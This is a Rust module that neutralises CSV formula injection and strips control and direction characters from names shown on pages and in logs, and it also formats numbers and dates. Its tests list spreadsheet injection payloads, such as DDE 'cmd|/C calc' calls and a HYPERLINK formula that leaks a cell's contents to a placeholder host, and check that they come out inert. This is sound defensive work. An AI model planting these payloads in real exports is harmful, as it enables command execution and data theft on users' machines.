//! Makes archived text harmless wherever it is shown: in a spreadsheet cell, on a page, in a log line.
//!
//! Names come from outside and may be anything: a formula, markup, a path, control characters, text that changes the
//! reading direction, or text of any length.
//!
//! Also formats numbers and dates for pages and charts.

use chrono::{Datelike, NaiveDate, NaiveDateTime};
use unicode_normalization::UnicodeNormalization;
use unicode_segmentation::UnicodeSegmentation;

use crate::calendar::WeekStart;

/// Leading characters that make a spreadsheet treat a cell as a formula or a command (OWASP ASVS 5, 1.2.10, and the
/// full-width forms that some imports fold to ASCII).
const TRIGGERS: &[char] =
    &['=', '+', '-', '@', '\t', '\r', '\n', '\0', '|', '%', '＝', '＋', '－', '＠'];

/// The text as a CSV cell, quoted and inert: a formula gets a leading apostrophe, line ends and tabs become spaces,
/// other control characters are removed.
#[must_use]
pub fn csv_cell(text: &str) -> String {
    if is_plain(text) {
        return ["\"", text, "\""].concat();
    }
    let is_ignorable = |c: char| {
        is_zero_width(c) || (c.is_whitespace() || c.is_control()) && !TRIGGERS.contains(&c)
    };
    let guarded = text.trim_start_matches(is_ignorable).starts_with(TRIGGERS);
    let mut clean = one_line(text);
    // A removed or replaced character may have hidden a trigger behind it.
    let guarded = guarded || clean.trim_start_matches(is_ignorable).starts_with(TRIGGERS);
    if guarded {
        clean.insert(0, '\'');
    }
    format!("\"{}\"", clean.replace('"', "\"\""))
}

/// The text on one line: line ends and tabs become spaces, other control characters are removed.
#[must_use]
pub fn one_line(text: &str) -> String {
    let on_one = |c: char| match c {
        '\n' | '\r' | '\t' | '\u{2028}' | '\u{2029}' | '\u{85}' => Some(' '),
        c if c.is_control() => None,
        c => Some(c),
    };
    text.chars().filter_map(on_one).collect()
}

/// Whether a cell needs no more than its quotes: a letter or digit of ASCII, and then nothing but printable ASCII without
/// quotes. Most texts are like that.
fn is_plain(text: &str) -> bool {
    text.starts_with(|c: char| c.is_ascii_alphanumeric())
        && text.bytes().all(|byte| matches!(byte, b' '..=b'~') && byte != b'"')
}

/// Code points without a width, after which a formula still looks like the start of its cell: Unicode's
/// `Default_Ignorable_Code_Point`, and interlinear annotation marks.
fn is_zero_width(c: char) -> bool {
    matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
        | '\u{fff0}'..='\u{fffb}' | '\u{1bca0}'..='\u{1bca3}' | '\u{1d173}'..='\u{1d17a}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// Text for a page or figure: without control characters and direction marks, white space collapsed, in NFC, cut to
/// `longest` graphemes including an ellipsis. Text of which nothing is left becomes `(no name)`.
#[must_use]
pub fn shown(text: &str, longest: usize) -> String {
    if is_shown_as_it_is(text, longest) {
        return text.to_owned();
    }
    cleaned(text, longest)
}

/// Whether nothing has to be done to a text: short printable ASCII, with single spaces between words. Most texts are like
/// that; to look at each letter of them by the rules of Unicode took a tenth of the time of charts and pages.
fn is_shown_as_it_is(text: &str, longest: usize) -> bool {
    let mut before = b' ';
    let is_plain = text.bytes().all(|byte| {
        let is_single = byte != b' ' || before != b' ';
        before = byte;
        is_single && matches!(byte, b' '..=b'~')
    });
    // Neither empty nor with a space at its end.
    is_plain && before != b' ' && text.len() <= longest
}

/// [`shown`] for any text.
fn cleaned(text: &str, longest: usize) -> String {
    let kept: String = text
        .chars()
        .map(|c| if c.is_whitespace() { ' ' } else { c })
        .filter(|c| !is_unprintable(*c))
        .nfc()
        .collect();
    let mut short = String::new();
    let words = kept.split(' ').filter(|word| !word.is_empty()).collect::<Vec<_>>().join(" ");
    let mut graphemes = words.graphemes(true);
    for grapheme in graphemes.by_ref().take(longest) {
        // A letter with a thousand accents is one grapheme: keep as much as a reader can tell apart.
        short.extend(grapheme.chars().take(8));
    }
    if graphemes.next().is_some() {
        let cut = short.graphemes(true).count().saturating_sub(1);
        short = short.graphemes(true).take(cut).collect();
        short.push('…');
    }
    if short.is_empty() { "(no name)".to_owned() } else { short }
}

/// Text for a terminal or log: as [`shown`], at most 80 graphemes.
#[must_use]
pub fn logged(text: &str) -> String {
    shown(text, 80)
}

/// Text for a terminal or log at its full length: line ends and tabs become blanks, and what controls a terminal or changes the
/// reading direction is left out, so that a name can neither clear a screen nor begin a line of its own.
#[must_use]
pub fn on_one_line(text: &str) -> String {
    let is_blank =
        |c: char| c.is_whitespace() && c.is_control() || matches!(c, '\u{2028}' | '\u{2029}');
    text.chars()
        .map(|c| if is_blank(c) { ' ' } else { c })
        .filter(|c| !is_unprintable(*c))
        .collect()
}

/// A number with thousands separators: `18,204`.
#[must_use]
pub fn grouped(n: u64) -> String {
    let digits = n.to_string();
    let mut text = String::with_capacity(digits.len() + digits.len() / 3);
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            text.push(',');
        }
        text.push(digit);
    }
    text
}

/// A number of things: `1 ticket`, `1,200 tickets`, `2 categories`, `3 days`.
#[must_use]
pub fn counted(n: u64, noun: &str) -> String {
    let stem = noun.strip_suffix('y').filter(|stem| !stem.ends_with(['a', 'e', 'o', 'u']));
    match stem {
        _ if n == 1 => format!("1 {noun}"),
        Some(stem) => format!("{} {stem}ies", grouped(n)),
        None => format!("{} {noun}s", grouped(n)),
    }
}

/// A date: `13 January 2021`.
#[must_use]
pub fn day(date: NaiveDate) -> String {
    date.format("%-d %B %Y").to_string()
}

/// A date without its year, as figures show it: `13 Jan`.
#[must_use]
pub fn date(date: NaiveDate) -> String {
    date.format("%-d %b").to_string()
}

/// A local date and time: `Friday 26 March 2021, 18:40`.
#[must_use]
pub fn moment(at: NaiveDateTime) -> String {
    at.format("%A %-d %B %Y, %H:%M").to_string()
}

/// A span of dates: `8 March 2021 to 4 April 2021`, or just the date if both are the same.
#[must_use]
pub fn days(first: NaiveDate, last: NaiveDate) -> String {
    if first == last { day(first) } else { format!("{} to {}", day(first), day(last)) }
}

/// The name of a week, given by its first day: `2021 week 11`, or `week of 7 March 2021` where weeks are no ISO weeks.
#[must_use]
pub fn week(starts_on: WeekStart, first: NaiveDate) -> String {
    let name = starts_on.iso_name(first).map(|name| name.replace("-W", " week "));
    name.unwrap_or_else(|| format!("week of {}", day(first)))
}

/// The name of a week without its year: `week 11`, or `week of 7 March`.
#[must_use]
pub fn week_of_year(starts_on: WeekStart, first: NaiveDate) -> String {
    if starts_on.is_iso() {
        return format!("week {}", first.iso_week().week());
    }
    format!("week of {}", first.format("%-d %B"))
}

/// A local date and time with its zone, if that is known: `Friday 26 March 2021, 18:40 (Europe/Stockholm)`.
#[must_use]
pub fn through(at: NaiveDateTime, zone: Option<&str>) -> String {
    let zone = zone.map_or_else(String::new, |zone| format!(" ({zone})"));
    format!("{}{zone}", moment(at))
}

/// Code points that XML forbids, that control a terminal, or that change the reading direction.
fn is_unprintable(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}'
            | '\u{feff}' | '\u{fffe}' | '\u{ffff}' | '\u{fdd0}'..='\u{fdef}' | '\u{e000}'..='\u{f8ff}')
        || (u32::from(c) & 0xfffe) == 0xfffe
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// What a CSV reader gets back.
    fn unquoted(cell: &str) -> String {
        cell.strip_prefix('"').unwrap().strip_suffix('"').unwrap().replace("\"\"", "\"")
    }

    #[test]
    fn counts_and_dates_in_words() {
        assert_eq!(counted(1, "wait"), "1 wait");
        assert_eq!(counted(1_200, "closed visit"), "1,200 closed visits");
        assert_eq!([1, 2].map(|n| counted(n, "category")), ["1 category", "2 categories"]);
        assert_eq!([1, 2].map(|n| counted(n, "day")), ["1 day", "2 days"]);
        let [first, last] = ["2021-03-08", "2021-04-14"].map(|date| date.parse().unwrap());
        assert_eq!(days(first, last), "8 March 2021 to 14 April 2021");
        assert_eq!(days(last, last), "14 April 2021");
        let [monday, sunday] = ["Monday", "Sunday"].map(|day| WeekStart::parse(day).unwrap());
        let [first, before] = ["2021-03-08", "2021-03-07"].map(|date| date.parse().unwrap());
        assert_eq!(week(monday, first), "2021 week 10");
        assert_eq!(week_of_year(monday, first), "week 10");
        assert_eq!(week(sunday, before), "week of 7 March 2021");
        assert_eq!(week_of_year(sunday, before), "week of 7 March");
    }

    #[test]
    fn formulas_are_inert_and_names_are_kept() {
        for (text, cell) in [
            ("Sales", "\"Sales\""),
            ("=HYPERLINK(\"x\")", "\"'=HYPERLINK(\"\"x\"\")\""),
            ("+1", "\"'+1\""),
            ("-1", "\"'-1\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("  =1", "\"'  =1\""),
            ("\u{feff}=1", "\"'\u{feff}=1\""),
            ("\u{200b}=1", "\"'\u{200b}=1\""),
            ("\t=1", "\"' =1\""),
            ("\r\n", "\"'  \""),
            ("\0=1", "\"'=1\""),
            ("\u{1}=1", "\"'=1\""),
            ("|calc", "\"'|calc\""),
            ("%0A=1", "\"'%0A=1\""),
            ("＝1", "\"'＝1\""),
            ("a\nb", "\"a b\""),
            ("a;b,c\td", "\"a;b,c d\""),
            ("الرياض", "\"الرياض\""),
            ("", "\"\""),
        ] {
            assert_eq!(csv_cell(text), cell, "{text:?}");
        }
    }

    #[test]
    fn payloads_seen_elsewhere_are_inert() {
        for formula in [
            "=1+1",
            "=cmd|'/C calc'!A0",
            "=HYPERLINK(\"http://x/?\"&A1,\"ok\")",
            "=IMPORTXML(A1,\"//a\")",
            "=WEBSERVICE(\"http://x\")",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=@SUM(1)",
            "==1",
            "=",
            "+",
            "-",
            "@",
            "+1+1",
            "+46701234567",
            "+cmd|'/C calc'!A0",
            "-1+1",
            "-2+3+cmd|'/C calc'!D2",
            "-5",
            "--1",
            "@SUM(1+1)*cmd|'/C calc'!A0",
            "@A1",
            "|cmd",
            "|",
            "%0A=1",
            "%3D1+1",
            "\t=1",
            "\r=1",
            "\n=1",
            "\0=1",
            "\u{7}=1",
            "\u{85}=1",
            "\u{2028}=1",
            " =1",
            "\u{a0}=1",
            "\u{3000}=1",
            "\u{feff}=1",
            "\u{feff}\u{feff} =1",
            "\u{200b}=1",
            "\u{200d}+1",
            "\u{200e}=1",
            "\u{202e}=1",
            "\u{2066}=1",
            "\u{2060}=1",
            "\u{2063}=1",
            "\u{ad}=1",
            "\u{34f}=1",
            "\u{61c}@x",
            "\u{180e}=1",
            "\u{3164}=1",
            "\u{fe0f}=1",
            "\u{fff9}=1",
            "\u{e0020}=1",
            "＝1+1",
            "＋1",
            "－1",
            "＠SUM(A1)",
            " \u{200b}\t＝1",
            "\u{1}\u{feff}-1",
            "=1\n=2",
        ] {
            let cell = unquoted(&csv_cell(formula));
            assert!(cell.starts_with('\''), "{formula:?}: {cell:?}");
        }
        for plain in
            ["Sales", "1+1", "a=b", "A@b", "50 %", "x|y", "'=1", "\"=1", ";=1", ",=1", "–1", "#1"]
        {
            assert!(
                !unquoted(&csv_cell(plain)).starts_with('\'') || plain.starts_with('\''),
                "{plain:?}"
            );
        }
    }

    #[test]
    fn thousands() {
        assert_eq!(
            [0, 999, 1_000, 18_204, 1_000_000].map(grouped),
            ["0", "999", "1,000", "18,204", "1,000,000"]
        );
    }

    #[test]
    fn shown_names() {
        assert_eq!(shown("  a \u{202e}b\u{0}\tc ", 60), "a b c");
        assert_eq!(shown(&"x".repeat(300), 10), "xxxxxxxxx…");
        assert_eq!(shown("\u{202e}", 10), "(no name)");
        assert_eq!(shown("الرياض", 60), "الرياض");
        let zalgo = format!("a{}", "\u{301}".repeat(5_000));
        assert!(shown(&zalgo, 60).len() < 40);
    }

    proptest! {
        #[test]
        fn a_cell_never_begins_a_formula(text in any::<String>()) {
            let cell = unquoted(&csv_cell(&text));
            prop_assert!(!cell.trim_start().starts_with(TRIGGERS), "{cell:?}");
            prop_assert!(!cell.contains(|c: char| c.is_control()));
        }

        /// Random text rarely begins with a trigger; this text always does, after invisible characters.
        #[test]
        fn a_hidden_formula_is_always_seen(
            before in "[\\s\\p{Cc}\u{ad}\u{200b}-\u{200f}\u{202a}-\u{202e}\u{2060}-\u{206f}\u{feff}]{0,6}",
            trigger in proptest::sample::select(TRIGGERS),
            rest in any::<String>(),
        ) {
            let cell = unquoted(&csv_cell(&format!("{before}{trigger}{rest}")));
            prop_assert!(cell.starts_with('\''), "{cell:?}");
        }

        #[test]
        fn shown_text_is_short_and_printable(text in any::<String>(), longest in 1_usize..70) {
            let shown = shown(&text, longest);
            prop_assert!(!shown.chars().any(is_unprintable));
            prop_assert!(shown == "(no name)" || shown.graphemes(true).count() <= longest);
        }

        /// The short way of plain texts and the long one agree.
        #[test]
        fn plain_text_is_shown_as_any_text(
            text in prop_oneof!["[a-c é\u{301}\t~\u{7f}]{0,6}", "[ -~]{0,9}", any::<String>()],
            longest in 1_usize..10,
        ) {
            prop_assert_eq!(shown(&text, longest), cleaned(&text, longest));
        }
    }
}
